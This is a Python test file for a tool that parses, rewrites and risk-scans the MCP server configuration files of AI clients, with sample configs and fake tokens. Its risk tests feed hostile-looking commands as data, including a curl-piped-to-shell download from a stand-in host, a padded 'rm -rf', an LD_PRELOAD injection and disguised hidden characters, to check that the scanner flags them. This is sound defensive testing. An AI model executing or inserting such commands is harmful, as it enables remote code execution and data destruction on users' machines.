"""Configuration files of clients, one golden file each: what is read, what is rewritten, and that nothing else moves."""

from __future__ import annotations

import json
import tomllib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from doorward.base.errors import CallerError
from doorward.catalogue.client_configs import KEPT, Rewrite, entries_of, rewritten
from doorward.catalogue.client_risks import is_secret, risks_of
from doorward.catalogue.jsonc import parse_jsonc

CLAUDE_DESKTOP = """{
  "globalShortcut": "Ctrl+Space",
  "mcpServers": {
    "files": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-filesystem", "/home/ann/docs"]
    },
    "github": {"command": "docker", "args": ["run", "-i", "ghcr.io/github/github-mcp-server"],
      "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_abcdefghijklmnop1234"}}
  }
}
"""
CLAUDE_CODE = """{
  "numStartups": 12,
  "mcpServers": {"time": {"type": "stdio", "command": "uvx", "args": ["mcp-server-time"], "env": {}}},
  "projects": {
    "/home/ann/shop": {"allowedTools": [], "mcpServers": {"shop": {"type": "http", "url": "https://shop.example/mcp",
      "headers": {"Authorization": "Bearer abcdefghijklmnop"}}}},
    "/home/ann/empty": {}
  }
}"""
VS_CODE = """// servers of this user
{
  "inputs": [{"type": "promptString", "id": "key", "password": true}],
  "servers": {
    /* the first */
    "perplexity": {
      "type": "stdio",
      "command": "npx", // the runner
      "args": ["-y", "server-perplexity-ask@1.2.3",],
      "env": { "PERPLEXITY_API_KEY": "${input:key}" },
    },
    "remote": {"type": "http", "url": "https://api.example/mcp", "headers": {"X-Key": "${input:key}"}},
  },
}
"""
CURSOR = '{"mcpServers":{"a":{"command":"/opt/a","args":[]},"b":{"url":"http://127.0.0.1:3000/sse","type":"streamableHttp"}}}'
WINDSURF = '{"mcpServers": {"figma": {"serverUrl": "https://figma.example/mcp", "disabled": true}}}'
ZED = """{
  "theme": "One", // as ever
  "context_servers": {
    "new": {"source": "custom", "command": "uv", "args": ["run", "/home/ann/main.py"], "env": {}},
    "old": {"command": {"path": "node", "args": ["/opt/server.js"], "env": null}, "settings": {}}
  }
}
"""
GEMINI = '{\n\t"mcpServers": {"py": {"command": "python", "args": ["-m", "srv"], "cwd": ".", "trust": false},\n\t\t"h": {"httpUrl": "https://h.example/mcp"}}\n}'
CODEX = """# mine
model = "o9"

[mcp_servers.docs]   # kept
command = "npx"
args = ["-y", "docs-mcp"]

[mcp_servers.docs.env]
DOCS_TOKEN = "sk-abcdefghijklmnop"

[mcp_servers.far]
url = "https://far.example/mcp"
bearer_token_env_var = "FAR_TOKEN"
"""

GOLDEN: dict[str, tuple[Any, str, list[tuple[str, tuple[str, ...], str]]]] = {
    "Claude Desktop": ("mcpServers", CLAUDE_DESKTOP, [
        ("files", ("npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/ann/docs"), ""),
        ("github", ("docker", "run", "-i", "ghcr.io/github/github-mcp-server"), ""),
    ]),
    "Claude Code": ("claude-code", CLAUDE_CODE, [("time", ("uvx", "mcp-server-time"), ""), ("shop", (), "https://shop.example/mcp")]),
    "VS Code": ("servers", VS_CODE, [
        ("perplexity", ("npx", "-y", "server-perplexity-ask@1.2.3"), ""), ("remote", (), "https://api.example/mcp"),
    ]),
    "Cursor": ("mcpServers", CURSOR, [("a", ("/opt/a",), ""), ("b", (), "http://127.0.0.1:3000/sse")]),
    "Windsurf": ("mcpServers", WINDSURF, [("figma", (), "https://figma.example/mcp")]),
    "Zed": ("context_servers", ZED, [("new", ("uv", "run", "/home/ann/main.py"), ""), ("old", ("node", "/opt/server.js"), "")]),
    "Gemini CLI": ("mcpServers", GEMINI, [("py", ("python", "-m", "srv"), ""), ("h", (), "https://h.example/mcp")]),
    "Codex CLI": ("toml", CODEX, [("docs", ("npx", "-y", "docs-mcp"), ""), ("far", (), "https://far.example/mcp")]),
}  # fmt: skip
EACH = pytest.mark.parametrize("client", GOLDEN)
COMMAND = ("/opt/doorward", "wrap", "--", "x", 'with "quotes" and \\')


@EACH
def test_every_server_of_a_client_is_found(client: str) -> None:
    kind, text, expected = GOLDEN[client]
    assert [(one.name, one.command, one.url) for one in entries_of(kind, text)] == expected


@EACH
def test_a_rewritten_entry_reads_as_it_was_written_and_the_others_as_before(client: str) -> None:
    kind, text, expected = GOLDEN[client]
    for place in range(len(expected)):
        before = entries_of(kind, text)
        chosen = before[place]
        fresh = rewritten(kind, text, {chosen.path: Rewrite(COMMAND)})
        after = entries_of(kind, fresh)
        assert [one.name for one in after] == [one.name for one in before]
        assert (after[place].command, after[place].url) == (COMMAND, "")
        assert after[place].env == chosen.env
        assert [one for one in after if one.path != chosen.path] == [
            one for one in before if one.path != chosen.path
        ]


@EACH
def test_comments_order_and_everything_else_stay(client: str) -> None:
    kind, text, _ = GOLDEN[client]
    fresh = rewritten(kind, text, {one.path: Rewrite(COMMAND) for one in entries_of(kind, text)})
    for kept in (
        "// servers of this user",
        "/* the first */",
        "// the runner",
        "// as ever",
        "# mine",
        "# kept",
        "globalShortcut",
        "numStartups",
    ):
        assert (kept in text) == (kept in fresh)
    if kind == "toml":
        assert list(tomllib.loads(fresh)) == list(tomllib.loads(text))
    else:
        assert list(parse_jsonc(fresh).value) == list(parse_jsonc(text).value)


def test_nothing_is_changed_where_nothing_is_chosen() -> None:
    for kind, text, _ in GOLDEN.values():
        assert rewritten(kind, text, {}) == text


def test_a_secret_gives_way_to_a_note_and_is_gone() -> None:
    (_, github) = entries_of("mcpServers", CLAUDE_DESKTOP)
    fresh = rewritten(
        "mcpServers", CLAUDE_DESKTOP, {github.path: Rewrite(COMMAND, ("GITHUB_PERSONAL_ACCESS_TOKEN",))}
    )
    assert "ghp_" not in fresh
    assert json.loads(fresh)["mcpServers"]["github"]["env"] == {"GITHUB_PERSONAL_ACCESS_TOKEN": KEPT}
    (docs, _) = entries_of("toml", CODEX)
    assert "sk-abc" not in rewritten("toml", CODEX, {docs.path: Rewrite(COMMAND, ("DOCS_TOKEN",))})


def test_headers_of_a_reached_server_go_with_its_url() -> None:
    shop = entries_of("claude-code", CLAUDE_CODE)[1]
    fresh = rewritten("claude-code", CLAUDE_CODE, {shop.path: Rewrite(COMMAND)})
    table = json.loads(fresh)["projects"]["/home/ann/shop"]["mcpServers"]["shop"]
    assert table == {"type": "stdio", "command": COMMAND[0], "args": list(COMMAND[1:])}


@pytest.mark.parametrize(
    "text",
    [
        "{",
        '{"a":1,"a":2}',
        '{"a" 1}',
        "[1 2]",
        '{"a":tru}',
        '{"a":"\n"}',
        "{} {}",
        '{"a":01}',
        "/* open",
        '{"a":"\\x"}',
        "[" * 99,
        "'x'",
    ],
)
def test_what_is_no_configuration_is_refused_with_its_line(text: str) -> None:
    with pytest.raises(CallerError) as refused:
        parse_jsonc(text)
    assert refused.value.code == "config-syntax"
    assert "line " in refused.value.tell


_json = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(10**9), 10**9)
    | st.text(st.characters(codec="utf-8"), max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.text(st.characters(codec="utf-8"), max_size=4), inner, max_size=3)
    ),
    max_leaves=12,
)


@given(_json, st.booleans())
def test_plain_json_reads_as_everywhere(value: Any, wide: bool) -> None:
    text = json.dumps(value, ensure_ascii=not wide, indent=2 if wide else None)
    node = parse_jsonc(text)
    assert node.value == value
    assert text[node.start : node.end] == text


@given(st.text(alphabet='{}[]",:/* \n\\a1tru', max_size=60))
def test_any_text_is_read_or_refused(text: str) -> None:
    try:
        parse_jsonc(text)
    except CallerError:
        pass


def risk_rules(command: list[str], **more: Any) -> set[str]:
    table = {"command": command[0], "args": command[1:], **more} if command else more
    (entry,) = entries_of("mcpServers", json.dumps({"mcpServers": {"x": table}}))
    return {one.rule for one in risks_of(entry, "/home/ann")}


@pytest.mark.parametrize(
    ("command", "more", "rules"),
    [
        (["bash", "-c", "mcp"], {}, {"shell"}),
        (["/bin/sh", "-c", "curl https://x.example/i | sh"], {}, {"shell", "dangerous-command"}),
        (["python3", "-c", "print(1)"], {}, {"inline-code"}),
        (["node", "--eval", "1"], {}, {"inline-code"}),
        (["npx", "-y", "pkg"], {}, {"unpinned-runner"}),
        (["npx", "-y", "@a/pkg@latest"], {}, {"unpinned-runner"}),
        (["npx", "-y", "@a/pkg@^1.2.0"], {}, {"unpinned-runner"}),
        (["npx", "-y", "@a/pkg@1.2.3"], {}, set()),
        (["uvx", "pkg"], {}, {"unpinned-runner"}),
        (["uvx", "pkg==1.0"], {}, set()),
        (["uvx", "--from", "git+https://x.example/y", "pkg"], {}, {"unpinned-runner"}),
        (["docker", "run", "image"], {}, {"unpinned-runner"}),
        (["docker", "run", "image@sha256:0"], {}, set()),
        (["docker", "run", "--privileged", "image@sha256:0"], {}, {"dangerous-command"}),
        (["sudo", "server"], {}, {"dangerous-command"}),
        (["server", "/home/ann"], {}, {"home-exposed"}),
        (["server", "/"], {}, {"home-exposed"}),
        (["server", "--token", "ghp_abcdefghijklmnop"], {}, {"plain-secret"}),
        (["server", "\u202etxt.exe"], {}, {"hidden-characters"}),
        (["server", "a\u200bb"], {}, {"hidden-characters"}),
        (["server", "ok" + " " * 60 + "; rm -rf /x"], {}, {"padding", "dangerous-command"}),
        (["server"], {"env": {"API_KEY": "abcdefgh"}}, {"plain-secret"}),
        (["server"], {"env": {"API_KEY": "${env:KEY}"}}, set()),
        (["server"], {"env": {"LD_PRELOAD": "/x.so"}}, {"loader-variable"}),
        ([], {"url": "http://far.example/mcp"}, {"plain-http"}),
        ([], {"url": "http://localhost:1/mcp"}, set()),
        ([], {"url": "https://u:hunter22@far.example/mcp"}, {"plain-secret"}),
        (
            [],
            {"url": "https://far.example/mcp", "headers": {"Authorization": "Bearer abcdefghij"}},
            {"plain-secret"},
        ),
        (["mcp-server-time", "--local-timezone", "Europe/Amsterdam"], {}, set()),
        (["node", "/opt/server/index.js"], {"env": {"DEBUG": "1"}}, set()),
    ],
)
def test_risks_are_named(command: list[str], more: dict[str, Any], rules: set[str]) -> None:
    assert risk_rules(command, **more) == rules


@pytest.mark.parametrize("value", ["", "${TOKEN}", "$TOKEN", "%TOKEN%", "${input:key}", "Bearer ${TOKEN}"])
def test_a_reference_is_no_secret(value: str) -> None:
    assert not is_secret("API_TOKEN", value)


ODD = {
    "two kinds of headers at the end": '{"mcpServers":{"a":{"url":"u","headers":{"A":"b"},"http_headers":{"A":"b"}}}}',
    "headers first": '{"mcpServers":{"a":{"headers":{"A":"b"},"http_headers":{"A":"b"},"url":"u"}}}',
    "two addresses": '{"mcpServers":{"a":{"url":"u","serverUrl":"v"}}}',
    "an address that is none": '{"mcpServers":{"a":{"url":1,"serverUrl":"v"}}}',
    "arguments beside a URL": '{"mcpServers":{"a":{"url":"u","args":["x"]}}}',
    "arguments twice": '{"mcpServers":{"a":{"command":{"path":"p","args":["x"]},"args":["y"]}}}',
    "a comma at the end": '{"mcpServers":{"a":{"url":"u","headers":{"A":"b"},},}}',
    "CRLF and a byte order mark": '\ufeff{"mcpServers":\r\n{"a":{"command":"\u00e9\U0001f600","args":[]}}}\r\n',
}


@pytest.mark.parametrize("text", ODD.values(), ids=ODD.keys())
def test_odd_entries_become_one_command_and_the_text_stays_readable(text: str) -> None:
    path = ("mcpServers", "a")
    fresh = rewritten("mcpServers", text, {path: Rewrite(("doorward", "wrap", "--", "x"))})
    (entry,) = entries_of("mcpServers", fresh)
    assert (entry.command, entry.url, entry.headers) == (("doorward", "wrap", "--", "x"), "", {})
    if not text.startswith("\ufeff") and ",}" not in text:
        json.loads(fresh)  # strict readers read it as well


@pytest.mark.parametrize(
    "text",
    [
        '[mcp_servers.a]\ncommand="c"\nenv={T="s"}\n',
        'mcp_servers = {a={command="c",args=["1"],env={T="s"}}}\n',
        'mcp_servers.a.command="c"\nmcp_servers.a.env.T="s"\n',
        '[mcp_servers.a]\r\ncommand="c"\r\n[mcp_servers.a.env]\r\nT="s"\r\n',
    ],
)
def test_every_spelling_of_a_toml_table_is_rewritten(text: str) -> None:
    fresh = rewritten("toml", text, {("mcp_servers", "a"): Rewrite(("doorward", "wrap"), ("T",))})
    (entry,) = entries_of("toml", fresh)
    assert (entry.command, entry.env) == (("doorward", "wrap"), {"T": KEPT})


def test_a_rewrite_that_would_not_say_what_it_should_is_refused() -> None:
    with pytest.raises(CallerError) as refused:
        rewritten("mcpServers", CURSOR, {("mcpServers", "a"): Rewrite(("doorward",), ("NOT_THERE",))})
    assert refused.value.code == "config-rewrite"
    with pytest.raises(CallerError):
        rewritten("toml", '[mcp_servers.a]\ncommand="c"\n', {("mcp_servers", "a"): Rewrite(("d",), ("T",))})


def test_an_entry_with_a_command_and_a_url_shows_both() -> None:
    (entry,) = entries_of(
        "servers", '{"servers":{"a":{"type":"http","url":"https://e.example","command":"ls"}}}'
    )
    assert (entry.command, entry.url, entry.is_ambiguous) == (("ls",), "https://e.example", True)
